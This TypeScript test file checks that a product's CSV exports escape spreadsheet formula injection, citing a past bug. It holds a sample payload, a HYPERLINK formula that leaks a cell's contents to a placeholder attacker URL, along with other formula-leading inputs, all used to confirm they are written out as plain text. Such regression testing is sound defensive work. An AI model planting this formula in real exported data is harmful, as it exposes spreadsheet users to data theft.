import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvTemplateTable } from "../forms/formBuilder";
import { snapshotCsvRows } from "../history/snapshotCsv";
import { buildReportColumns } from "../reports/reportColumns";
import { buildReportSheet, type ReportRow, reportCsv } from "../reports/reportExport";
import { CSV_FORMULA_TRIGGERS, type CsvCell, csvLine, writeCsv } from "./writeCsv";

// Issue 21 §7: the report and snapshot CSVs wrote `=HYPERLINK("http://evil.example/?leak="&A2, …)`
// from an asset name as a live formula.

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

/** The same file a line at a time (`csvLine`, the server's streamed report export). */
const byLines = (header: readonly string[], rows: readonly (readonly CsvCell[])[]) =>
  [header, ...rows].map((cells) => csvLine(cells)).join("\r\n");

describe.each([
  ["writeCsv", writeCsv],
  ["csvLine", byLines],
] as const)("%s: formula cells stay text", (_writer, writeCsv) => {
  it.each(CSV_FORMULA_TRIGGERS.map((c) => [JSON.stringify(c), c]))("a cell starting with %s gets a quote", (_, c) => {
    const [header, row] = parse(writeCsv([`${c}head`], [[`${c}1+1`]]));
    expect(header).toEqual([`'${c}head`]);
    expect(row).toEqual([`'${c}1+1`]);
  });

  it("a formula followed by a line break is escaped too (papaparse's own pattern let it through)", () => {
    const [, row] = parse(writeCsv(["Name"], [[`${HYPERLINK}\nsecond line`]]));
    expect(row?.[0]).toBe(`'${HYPERLINK}\nsecond line`);
  });

  it("leaves numbers, ordinary text and formula characters later in a cell alone", () => {
    const csv = writeCsv(["A", "B", "C", "D"], [[-5, 12.5, "Paint = blue", "a@b.example"]]);
    expect(csv).toBe("A,B,C,D\r\n-5,12.5,Paint = blue,a@b.example");
  });

  it("still quotes commas, quotes and line breaks", () => {
    const [, row] = parse(writeCsv(["A"], [['Paint, "Blue"\nLine 2']]));
    expect(row?.[0]).toBe('Paint, "Blue"\nLine 2');
  });
});

describe("csvLine writes what writeCsv writes", () => {
  const text = fc.string({
    unit: fc.constantFrom("a", "Z", "1", " ", ",", '"', "'", "\n", "\r", "\t", "=", "+", "-", "@", "\uFEFF", "é", "€"),
    maxLength: 8,
  });
  const cell = fc.oneof(
    text,
    fc.double(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.constant(undefined),
    fc.date({ noInvalidDate: false }),
  );
  it("for any cells (text with every character papaparse looks at, numbers, dates, empty)", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 5 }),
        fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 6 }),
        (width, rows) => {
          const header = Array.from({ length: width }, (_, i) => `h${i}`);
          const sliced = rows.map((r) => r.slice(0, width));
          expect(sliced.map((r) => csvLine(r)).join("\r\n")).toBe(writeCsv(header, sliced, false));
          if (sliced.length > 0) expect(byLines(header, sliced)).toBe(writeCsv(header, sliced));
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe("every CSV the product writes goes through writeCsv", () => {
  const reportRow: ReportRow = {
    key: "s1",
    assetId: "a1",
    assetName: HYPERLINK,
    assetType: "+Paint",
    assetTypeColor: null,
    submissionId: "s1",
    submissionDate: new Date("2025-01-05T10:30:00Z"),
    formName: "Count",
    values: {},
    previousValues: null,
    previousDate: null,
    lastMonthTotal: { amount: 10, source: "form_submission", confidence: "high", details: "" },
    consistency: {
      isConsistent: true,
      severity: "none",
      realTimeQuantity: 12,
      latestFormTotal: 12,
      discrepancy: 0,
      discrepancyPercent: 0,
      lastFormDate: null,
      recommendations: [],
    },
  };

  it("the report export (asset name and type)", () => {
    const sheet = buildReportSheet(buildReportColumns([]), [reportRow]);
    const [header, row] = parse(reportCsv(sheet, writeCsv));
    expect(row?.[header?.indexOf("Asset Name") ?? -1]).toBe(`'${HYPERLINK}`);
    expect(row?.[header?.indexOf("Asset Type") ?? -1]).toBe("'+Paint");
  });

  it("the snapshot export (asset name and location)", () => {
    const [header = [], ...body] = snapshotCsvRows([
      {
        monthYear: "2025-02",
        assetName: HYPERLINK,
        itemName: null,
        quantity: -3,
        status: "low_stock",
        location: "@SUM(A1:A9)",
        currentPrice: 1,
        currency: "USD",
        snapshotDate: "2025-02-28",
      },
    ]);
    const [, row] = parse(writeCsv(header.map(String), body));
    expect(row).toEqual(["2025-02", `'${HYPERLINK}`, "-3", "low_stock", "'@SUM(A1:A9)", "1.00", "USD", "2025-02-28"]);
  });

  it("the form's CSV template (field labels)", () => {
    const { header, rows } = csvTemplateTable(["-Count", "Notes"]);
    expect(parse(writeCsv(header, rows))[0]).toEqual(["'-Count", "Notes"]);
  });

  it("no other source file writes CSV on its own (papaparse's unparse is called only here; the import only reads)", () => {
    const root = path.resolve(__dirname, "../../../..");
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        if (name === "node_modules" || name === "dist" || name.startsWith(".")) continue;
        const file = path.join(dir, name);
        if (statSync(file).isDirectory()) walk(file);
        else if (
          /\.(ts|tsx)$/.test(name) &&
          !/\.test\.tsx?$/.test(name) &&
          !file.includes(`${path.sep}e2e${path.sep}`)
        ) {
          if (/\bunparse\s*\(/.test(readFileSync(file, "utf8"))) {
            offenders.push(path.relative(root, file));
          }
        }
      }
    };
    for (const top of ["apps", "packages"]) walk(path.join(root, top));
    expect(offenders).toEqual([path.join("packages", "core", "src", "csv", "writeCsv.ts")]);
  });
});
